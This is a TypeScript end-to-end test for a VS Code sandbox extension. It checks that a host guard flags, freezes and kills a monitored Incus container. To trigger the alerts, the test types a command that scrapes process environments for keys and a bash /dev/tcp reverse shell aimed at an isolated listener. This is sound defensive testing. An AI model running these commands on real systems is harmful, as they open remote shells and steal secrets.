// Threats in the real VS Code, against the real Incus and the host's guard: a
// sandbox opened by the extension (monitoring turned on by the workspace's
// .coi/config.toml; the user's own config has the guard freeze rather than
// kill on CRITICAL, so the decision is the user's), a reverse shell typed into
// its agent terminal against a listener in the dead-end namespace (nothing
// leaves the machine), then what the user sees: first, for an environment
// scan, a warning whose "Show Details" opens the alert view at the event;
// then, for the reverse shell, an error notification with
// "Show Details" and "Kill" within two seconds, the slot's unseen count in the
// tree and the status bar, the alert view listing the event with its remote
// address, and the notification's "Kill" removing the slot from the tree.
// Screenshots: test-artifacts/e2e/alerts/.
import { strict as assert } from 'node:assert';
import { ChildProcess, spawn } from 'node:child_process';
import { randomBytes, randomInt } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { auditLocation } from '../../helper/guard/monitor/audit-location';
import { IncusClient } from '../../helper/incus/client';
import { UnixSocketTransport } from '../../helper/incus/transport';
import { DEAD_END_HOSTS, SETUP_NAMES } from '../../helper/setup/names';
import { VsCode, waitFor } from './harness';

const CONTAINER = 'coi';
const PREFIX = `coi-ea${randomBytes(2).toString('hex')}-`;
const TARGET = DEAD_END_HOSTS.internet; // 198.51.100.2, owned by the dead-end namespace
const PORT = randomInt(41_000, 48_000);
const root = mkdtempSync(join(tmpdir(), 'coi-e2e-alerts-'));
const home = join(root, 'home');
const folder = join(root, 'demo-project');
const ALERTS_ITEM = '[id="coi.coi-vscode.coi.alerts"]';
const incus = new IncusClient(new UnixSocketTransport());
let vs: VsCode;
let listener: ChildProcess | undefined;
let name = '';
let acceptedAt: number | undefined;
let toastText = '';
const timings: string[] = [];
const t0 = Date.now();
const mark = (what: string) => timings.push(`${((Date.now() - t0) / 1000).toFixed(1)} s  ${what}`);

const ours = async () => (await incus.listInstances()).filter((i) => i.name.startsWith(PREFIX));

/** One listener in the dead-end namespace; notes when the shell connects; gone after 5 minutes whatever happens. */
function startListener(): Promise<void> {
  const script = `
    const net = require('net');
    const srv = net.createServer((s) => { s.on('error', () => {}); console.log(JSON.stringify({ t: Date.now() })); });
    srv.listen(${PORT}, ${JSON.stringify(TARGET)}, () => console.log(JSON.stringify({ ready: true })));
    setTimeout(() => process.exit(0), 300000);`;
  listener = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  return new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error('the listener did not come up')), 10_000);
    let buf = '';
    listener!.stdout!.on('data', (d: Buffer) => {
      buf += d.toString();
      const lines = buf.split('\n');
      buf = lines.pop() ?? '';
      for (const l of lines) {
        const m = JSON.parse(l) as { ready?: boolean; t?: number };
        if (m.ready) {
          clearTimeout(t);
          resolve();
        }
        if (m.t && acceptedAt === undefined) acceptedAt = m.t;
      }
    });
  });
}

before(async () => {
  mkdirSync(join(home, '.coi'), { recursive: true });
  mkdirSync(join(folder, '.coi'), { recursive: true });
  // The user's choice (a project may not weaken this): freeze on CRITICAL, the user decides.
  writeFileSync(join(home, '.coi', 'config.toml'), '[container]\nimage = "coi-base"\n[tool]\nname = "shell"\n[monitoring]\nauto_kill_on_critical = false\n');
  // The project turns monitoring on (allowed untrusted: it only makes the sandbox stricter).
  writeFileSync(join(folder, '.coi', 'config.toml'), '[monitoring]\nenabled = true\n');
  writeFileSync(join(folder, 'README.md'), '# demo\n');
  await startListener();
  vs = await VsCode.start({ name: 'alerts', folder, env: { HOME: home, COI_CONTAINER_PREFIX: PREFIX } });
  mark('VS Code up');
});

after(async () => {
  await vs?.stop();
  listener?.kill('SIGKILL');
  for (const i of await ours().catch(() => [])) await incus.deleteInstance(i.name, { force: true }).catch(() => undefined);
  // The audit lines the host's guard wrote for our sandbox: kept with the artefacts, removed from root's log dir.
  const dir = auditLocation(0).dir;
  for (const f of existsSync(dir) ? readdirSync(dir) : []) {
    if (!f.startsWith(PREFIX)) continue;
    if (vs) copyFileSync(join(dir, f), join(vs.artifacts, f));
    rmSync(join(dir, f), { force: true });
  }
  rmSync(root, { recursive: true, force: true });
  mark('cleaned up');
  process.stderr.write(`alerts e2e timings:\n  ${timings.join('\n  ')}\n`);
});

test('a sandbox opened from the Palette, monitored by the workspace\'s configuration', async () => {
  await vs.openViewContainer('COI', CONTAINER);
  await vs.waitForTreeItem(CONTAINER, 'demo-project');
  await vs.runCommand('COI: Open Workspace in COI Sandbox');
  await vs.pickQuickItem('shell');
  await vs.pickQuickItem('Auto');
  await vs.pickQuickItem('As configured: default');
  await vs.pickQuickItem('Ephemeral');
  const slot = vs.treeItems(CONTAINER, /slot 1/).first();
  await waitFor('slot 1 running', async () => {
    const error = vs.page.locator('.notifications-toasts .notification-toast').filter({ has: vs.page.locator('.codicon-error') });
    if (await error.count()) throw new Error(`the open failed: ${await error.first().locator('.notification-list-item-message').textContent()}`);
    if (!(await slot.count())) return false;
    return /shell · ephemeral$/.test(((await slot.locator('.label-description').textContent({ timeout: 1_000 }).catch(() => '')) ?? '').trim());
  }, 180_000);
  const [inst] = await ours();
  assert.ok(inst, `an instance named ${PREFIX}… exists`);
  name = inst.name;
  const policy = JSON.parse(inst.config?.['user.coi.monitor'] ?? '{}') as { enabled?: boolean; auto_kill_on_critical?: boolean };
  assert.equal(policy.enabled, true, 'monitored, as the workspace asked');
  assert.equal(policy.auto_kill_on_critical, false, 'frozen, not killed, as the user asked');
  await vs.waitForTerminalMatch(new RegExp(`^code@${name}:/workspace\\$`), 60_000);
  mark(`slot 1 (${name}) running, shell in the terminal`);
  await vs.screenshot('sandbox-open');
});

/** Types a command line into the agent terminal (the sandbox's shell); returns when Enter was pressed. */
async function typeInTerminal(line: string, shot?: string): Promise<number> {
  await vs.page.locator('.part.panel .terminal-wrapper .xterm').first().click();
  await vs.page.keyboard.type(line);
  if (shot) await vs.screenshot(shot);
  const at = Date.now();
  await vs.page.keyboard.press('Enter');
  return at;
}

test('reading other processes\' environments: a warning notification; "Show Details" opens the alert view at the event', async () => {
  const startedAt = await typeInTerminal('cat /proc/*/environ | grep -i key');
  const toast = vs.notification(new RegExp(`COI WARNING: .*${name}`)).first();
  await waitFor('the warning notification', async () => (await toast.count()) > 0, 20_000, 25);
  mark(`warning notification ${Date.now() - startedAt} ms after Enter: ${(await toast.locator('.notification-list-item-message').textContent())?.trim()}`);
  await vs.screenshot('warning-notification', toast).catch(() => undefined);
  assert.equal(await toast.locator('.codicon-warning').count(), 1, 'a warning, not an error');
  const buttons = await vs.notificationButtons(toast);
  assert.ok(buttons.includes('Show Details') && buttons.includes('Kill'), `buttons: ${buttons.join(', ')}`);
  assert.ok(!buttons.includes('Resume'), 'nothing was frozen');
  await toast.locator('.monaco-button', { hasText: /^Show Details$/ }).click();
  const frame = vs.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
  const event = frame.locator('#timeline li.event.level-warning').filter({ hasText: name }).first();
  await event.locator('details[open]').waitFor({ timeout: 30_000 });
  assert.match((await event.locator('dl.evidence').textContent()) ?? '', /Process chain.*bash/);
  await vs.screenshot('warning-details');
  assert.equal((await incus.getState(name)).status, 'Running', 'a WARNING stops nothing');
  await vs.runCommand('View: Close All Editors');
});

test('a reverse shell in the agent terminal: an error notification with "Show Details" and "Kill" within two seconds', async () => {
  const startedAt = await typeInTerminal(`bash -c 'exec 3<>/dev/tcp/${TARGET}/${PORT}; exec sh -i <&3 >&3 2>&3'`, 'reverse-shell-typed');
  const toast = vs.notification(new RegExp(`COI (CRITICAL|HIGH): .*${name}`)).first();
  await waitFor('the threat notification', async () => (await toast.count()) > 0, 20_000, 25);
  const shownAt = Date.now();
  await vs.screenshot('notification', toast).catch(() => undefined);
  await vs.screenshot('notification-window');
  toastText = ((await toast.locator('.notification-list-item-message').textContent()) ?? '').trim();
  const fromConnect = acceptedAt !== undefined ? `, ${shownAt - acceptedAt} ms after the listener accepted` : ' (frozen before the connection reached the listener)';
  mark(`notification ${shownAt - startedAt} ms after Enter${fromConnect}: ${toastText}`);
  assert.ok(shownAt - startedAt < 2_000, `the notification took ${shownAt - startedAt} ms after the reverse shell was started`);
  // An error (not a warning), saying what was done and to what.
  assert.equal(await toast.locator('.codicon-error').count(), 1, 'an error notification');
  assert.match(toastText, new RegExp(`^COI CRITICAL: froze ${name}: .*${TARGET.replace(/\./g, '\\.')}:${PORT}`));
  const buttons = await vs.notificationButtons(toast);
  assert.ok(buttons.includes('Show Details') && buttons.includes('Kill'), `buttons: ${buttons.join(', ')}`);
  assert.ok(buttons.includes('Resume'), `a frozen sandbox can be resumed: ${buttons.join(', ')}`);
  // The guard froze it (Incus says so once the guard has told it).
  await waitFor('Incus to say Frozen', async () => ((await incus.getState(name)).status === 'Frozen' ? true : undefined), 15_000);
});

test('the tree and the status bar show the unseen alerts and the frozen state', async () => {
  const slot = vs.treeItems(CONTAINER, /slot 1/).first();
  await waitFor('slot 1 frozen with unseen alerts', async () => /frozen · \d+ unseen alerts?$/.test(((await slot.locator('.label-description').textContent({ timeout: 1_000 }).catch(() => '')) ?? '').trim()), 15_000);
  const status = vs.page.locator(ALERTS_ITEM);
  await waitFor('the alerts status bar item', async () => /\d+ COI alerts?/.test((await status.textContent().catch(() => '')) ?? ''), 10_000);
  mark(`tree: ${(await slot.locator('.label-description').textContent())?.trim()}; status bar: ${(await status.textContent())?.trim()}`);
  await vs.screenshot('tree-unseen-frozen', vs.viewContainer(CONTAINER));
  await vs.screenshot('status-bar-alerts', status);
});

test('the alert view (from the status bar) lists the event with its remote address and evidence', async () => {
  await vs.page.locator(ALERTS_ITEM).click();
  const frame = vs.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
  const event = frame.locator('#timeline li.event.level-critical').filter({ hasText: `${TARGET}:${PORT}` }).first();
  await event.waitFor({ timeout: 30_000 });
  assert.match((await event.locator('.meta').textContent()) ?? '', new RegExp(name));
  await event.locator('summary').click();
  const evidence = (await event.locator('dl.evidence').textContent()) ?? '';
  assert.match(evidence, /Process chain/);
  assert.match(evidence, new RegExp(`Remote${TARGET.replace(/\./g, '\\.')}:${PORT}`));
  assert.deepEqual((await event.locator('.actions button').allTextContents()).map((s) => s.trim()).filter((b) => b !== 'Restore Snapshot'), ['Resume', 'Kill', 'Open audit line']);
  mark('alert view lists the event');
  await vs.screenshot('alert-view');
  await vs.screenshot('alert-view-panel', vs.page.locator('iframe.webview.ready').first());
  // Seen now: the counts are gone.
  await waitFor('the unseen count gone from the tree', async () => !/unseen/.test((await vs.treeItems(CONTAINER, /slot 1/).first().textContent()) ?? ''), 10_000);
  assert.equal(await vs.page.locator(ALERTS_ITEM).isVisible(), false, 'no unseen alerts in the status bar');
});

test('"Kill" on the notification (confirmed) removes the slot from the tree', async () => {
  const toast = vs.notification(toastText.slice(0, 60)).first();
  if (!(await toast.isVisible().catch(() => false))) {
    // Shown by the notification center when the toast was tucked away.
    await vs.runCommand('Notifications: Show Notifications');
  }
  const item = vs.page.locator('.notification-list-item').filter({ hasText: toastText.slice(0, 60) }).first();
  await item.locator('.monaco-button', { hasText: /^Kill$/ }).click();
  const dialog = vs.dialog();
  await dialog.waitFor({ timeout: 10_000 });
  assert.match((await dialog.textContent()) ?? '', /Kill slot 1/);
  await vs.screenshot('kill-confirm');
  await dialog.getByRole('button', { name: 'Kill', exact: true }).click();
  await waitFor('slot 1 gone from the tree', async () => (await vs.treeItems(CONTAINER, /slot 1/).count()) === 0, 60_000);
  mark('slot gone from the tree');
  assert.deepEqual(await ours(), [], 'Incus has no instance of ours left');
  await vs.screenshot('after-kill');
  // The event stays in the view; its sandbox is gone, so only the audit line is offered.
  const frame = vs.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
  const event = frame.locator('#timeline li.event.level-critical').filter({ hasText: `${TARGET}:${PORT}` }).first();
  await waitFor('the view without actions for the gone sandbox', async () => JSON.stringify((await event.locator('.actions button').allTextContents()).map((s) => s.trim())) === '["Open audit line"]', 15_000);
  await vs.screenshot('alert-view-after-kill', vs.page.locator('iframe.webview.ready').first());
});
